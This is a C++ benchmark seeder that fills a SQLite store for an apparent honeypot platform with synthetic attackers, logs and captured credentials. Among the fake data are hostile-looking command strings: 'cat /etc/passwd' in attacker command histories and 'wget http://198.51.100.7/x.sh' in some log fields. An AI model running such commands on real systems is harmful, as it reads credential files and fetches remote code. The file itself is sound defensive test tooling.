#include "seed.hpp"

#include <sqlite3.h>

#include <filesystem>
#include <nlohmann/json.hpp>
#include <stdexcept>
#include <vector>

#include "store/repository.hpp"
#include "store/sqlite/sqlite_repository.hpp"

namespace decnet::bench {
namespace {

const char* const kServices[] = {"ssh", "http", "ftp", "redis", "telnet", "smb", "mysql", "rdp"};
const char* const kEvents[] = {"connect", "auth_attempt", "command", "request", "disconnect"};

std::string attacker_ip(int i) {
    return "203.0." + std::to_string(113 + i / 250) + "." + std::to_string(1 + i % 250);
}

std::string decky_name(int i) {
    char name[24];
    std::snprintf(name, sizeof name, "decky-%02d", i + 1);
    return name;
}

// "2026-11-01 HH:MM:SS.ffffff" spread over one day so the histogram has many buckets.
std::string timestamp_for(int i, int total) {
    const long seconds = 86400L * i / (total > 0 ? total : 1);
    char text[64];
    std::snprintf(text, sizeof text, "2026-11-01 %02ld:%02ld:%02ld.%06d", seconds / 3600,
                  seconds / 60 % 60, seconds % 60, (i * 7919) % 1000000);
    return text;
}

void exec(sqlite3* db, const std::string& sql) {
    char* error = nullptr;
    if (sqlite3_exec(db, sql.c_str(), nullptr, nullptr, &error) != SQLITE_OK) {
        std::string message = error ? error : "unknown error";
        sqlite3_free(error);
        throw std::runtime_error("seed: " + message);
    }
}

// Attackers and behaviour rows are written by the profiler, which has no repository
// writer yet: insert them with SQL in the reference schema.
void seed_attackers(const std::string& path, const SeedCounts& counts) {
    sqlite3* db = nullptr;
    if (sqlite3_open(path.c_str(), &db) != SQLITE_OK) throw std::runtime_error("seed: open");
    exec(db, "BEGIN");
    sqlite3_stmt* insert = nullptr;
    sqlite3_prepare_v2(db,
                       "INSERT INTO attackers (uuid, ip, first_seen, last_seen, event_count, "
                       "service_count, decky_count, services, deckies, traversal_path, "
                       "is_traversal, bounty_count, credential_count, fingerprints, commands, "
                       "updated_at) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
                       -1, &insert, nullptr);
    sqlite3_stmt* behavior = nullptr;
    sqlite3_prepare_v2(db,
                       "INSERT INTO attacker_behavior (attacker_uuid, os_guess, hop_distance, "
                       "tcp_fingerprint, retransmit_count, behavior_class, beacon_interval_s, "
                       "beacon_jitter_pct, tool_guesses, timing_stats, phase_sequence, "
                       "updated_at) VALUES (?,?,?,?,?,?,?,?,?,?,?,?)",
                       -1, &behavior, nullptr);
    for (int i = 0; i < counts.attackers; ++i) {
        char uuid[64];
        std::snprintf(uuid, sizeof uuid, "00000000-0000-4000-8000-%012d", i);
        const auto first = timestamp_for(i, counts.attackers);
        const auto services = nlohmann::json{kServices[i % 8], kServices[(i + 3) % 8]};
        const auto deckies =
            nlohmann::json{decky_name(i % counts.deckies), decky_name((i + 1) % counts.deckies)};
        nlohmann::json commands = nlohmann::json::array();
        for (int c = 0; c < 5; ++c)
            commands.push_back({{"service", "ssh"},
                                {"decky", decky_name(i % counts.deckies)},
                                {"command", c % 2 ? "uname -a" : "cat /etc/passwd"},
                                {"timestamp", "2026-11-01T10:00:0" + std::to_string(c)}});
        const bool traversal = i % 3 == 0;
        const std::string path_text =
            deckies[0].get<std::string>() + " → " + deckies[1].get<std::string>();
        const std::string texts[] = {uuid,
                                     attacker_ip(i),
                                     first,
                                     "2026-11-01 23:59:59.000000",
                                     services.dump(),
                                     deckies.dump(),
                                     path_text,
                                     "[]",
                                     commands.dump()};
        sqlite3_reset(insert);
        sqlite3_bind_text(insert, 1, texts[0].c_str(), -1, SQLITE_TRANSIENT);
        sqlite3_bind_text(insert, 2, texts[1].c_str(), -1, SQLITE_TRANSIENT);
        sqlite3_bind_text(insert, 3, texts[2].c_str(), -1, SQLITE_TRANSIENT);
        sqlite3_bind_text(insert, 4, texts[3].c_str(), -1, SQLITE_TRANSIENT);
        sqlite3_bind_int(insert, 5, 100 + i);
        sqlite3_bind_int(insert, 6, 2);
        sqlite3_bind_int(insert, 7, 2);
        sqlite3_bind_text(insert, 8, texts[4].c_str(), -1, SQLITE_TRANSIENT);
        sqlite3_bind_text(insert, 9, texts[5].c_str(), -1, SQLITE_TRANSIENT);
        if (traversal)
            sqlite3_bind_text(insert, 10, texts[6].c_str(), -1, SQLITE_TRANSIENT);
        else
            sqlite3_bind_null(insert, 10);
        sqlite3_bind_int(insert, 11, traversal ? 1 : 0);
        sqlite3_bind_int(insert, 12, i % 9);
        sqlite3_bind_int(insert, 13, i % 4);
        sqlite3_bind_text(insert, 14, texts[7].c_str(), -1, SQLITE_TRANSIENT);
        sqlite3_bind_text(insert, 15, texts[8].c_str(), -1, SQLITE_TRANSIENT);
        sqlite3_bind_text(insert, 16, texts[3].c_str(), -1, SQLITE_TRANSIENT);
        if (sqlite3_step(insert) != SQLITE_DONE) throw std::runtime_error("seed: attacker");

        sqlite3_reset(behavior);
        sqlite3_bind_text(behavior, 1, uuid, -1, SQLITE_TRANSIENT);
        sqlite3_bind_text(behavior, 2, i % 2 ? "linux" : "windows", -1, SQLITE_STATIC);
        sqlite3_bind_int(behavior, 3, 5 + i % 10);
        sqlite3_bind_text(behavior, 4, "{\"ttl\":64,\"window\":64240}", -1, SQLITE_STATIC);
        sqlite3_bind_int(behavior, 5, i % 3);
        sqlite3_bind_text(behavior, 6, i % 5 ? "brute_force" : "beaconing", -1, SQLITE_STATIC);
        sqlite3_bind_double(behavior, 7, 30.0);
        sqlite3_bind_double(behavior, 8, 5.0);
        sqlite3_bind_text(behavior, 9, "[\"hydra\"]", -1, SQLITE_STATIC);
        sqlite3_bind_text(behavior, 10, "{\"mean_iat_s\":1.5}", -1, SQLITE_STATIC);
        sqlite3_bind_text(behavior, 11, "[\"recon\",\"exploit\"]", -1, SQLITE_STATIC);
        sqlite3_bind_text(behavior, 12, texts[3].c_str(), -1, SQLITE_TRANSIENT);
        if (sqlite3_step(behavior) != SQLITE_DONE) throw std::runtime_error("seed: behavior");
    }
    sqlite3_finalize(insert);
    sqlite3_finalize(behavior);
    exec(db, "COMMIT");
    sqlite3_close(db);
}

std::string deployment_state(const SeedCounts& counts) {
    nlohmann::json deckies = nlohmann::json::array();
    for (int i = 0; i < counts.deckies; ++i)
        deckies.push_back({{"name", decky_name(i)},
                           {"ip", "127.77.0." + std::to_string(10 + i)},
                           {"services", {kServices[i % 8], kServices[(i + 1) % 8]}},
                           {"distro", "debian"},
                           {"base_image", "debian:bookworm-slim"},
                           {"build_base", "debian:bookworm-slim"},
                           {"hostname", "srv-" + std::to_string(i)},
                           {"archetype", nullptr},
                           {"service_config", nlohmann::json::object()},
                           {"nmap_os", "linux"},
                           {"mutate_interval", nullptr},
                           {"last_mutated", 0.0},
                           {"last_login_attempt", 0.0}});
    nlohmann::json config = {{"mode", "unihost"},         {"interface", "lo"},
                             {"subnet", "127.77.0.0/16"}, {"gateway", "127.77.0.1"},
                             {"deckies", deckies},        {"log_file", nullptr},
                             {"ipvlan", false},           {"mutate_interval", 30}};
    return nlohmann::json{{"config", config}, {"compose_path", ""}}.dump();
}

}  // namespace

void seed_database(const std::string& path, const SeedCounts& counts) {
    for (const char* suffix : {"", "-wal", "-shm"}) std::filesystem::remove(path + suffix);
    // Indexed here, to the end, before the API starts: the bench measures a store that
    // has been running (whose background indexer long caught up), not the minute after a
    // bulk import, when each indexer commit moves the data version and searches scan.
    store::SqliteOptions options;
    options.background_indexing = false;
    auto repository = std::make_unique<store::SqliteRepository>(path, options);

    std::vector<store::LogRecord> logs;
    logs.reserve(1000);
    for (int i = 0; i < counts.logs; ++i) {
        store::LogRecord row;
        row.timestamp = timestamp_for(i, counts.logs);
        row.decky = decky_name(i % counts.deckies);
        row.service = kServices[i % 8];
        row.event_type = kEvents[i % 5];
        row.attacker_ip = attacker_ip(i % counts.attackers);
        nlohmann::json fields = {{"src_ip", row.attacker_ip}, {"username", "root"}};
        if (i % 5 == 2) fields["command"] = "wget http://198.51.100.7/x.sh";
        row.fields = fields.dump();
        row.raw_line = "<38>1 " + row.timestamp + " " + row.decky + " " + row.service + " - " +
                       row.event_type + " [decnet@55555 src_ip=\"" + row.attacker_ip + "\"]";
        logs.push_back(std::move(row));
        if (logs.size() == 1000 || i + 1 == counts.logs) {
            repository->insert_logs(logs);
            logs.clear();
        }
    }

    std::vector<store::BountyRecord> bounties;
    for (int i = 0; i < counts.bounties; ++i) {
        store::BountyRecord row;
        row.timestamp = timestamp_for(i, counts.bounties);
        row.decky = decky_name(i % counts.deckies);
        row.service = kServices[i % 8];
        row.attacker_ip = attacker_ip(i % counts.attackers);
        row.bounty_type = i % 4 ? "credential" : "fingerprint";
        row.payload = nlohmann::json{{"username", "user" + std::to_string(i)},
                                     {"password", "pass" + std::to_string(i)}}
                          .dump();
        bounties.push_back(std::move(row));
    }
    repository->insert_bounties(bounties);
    repository->set_state("deployment", deployment_state(counts));
    while (repository->index_pending_search(10'000) > 0) {
    }
    repository.reset();
    seed_attackers(path, counts);
}

}  // namespace decnet::bench
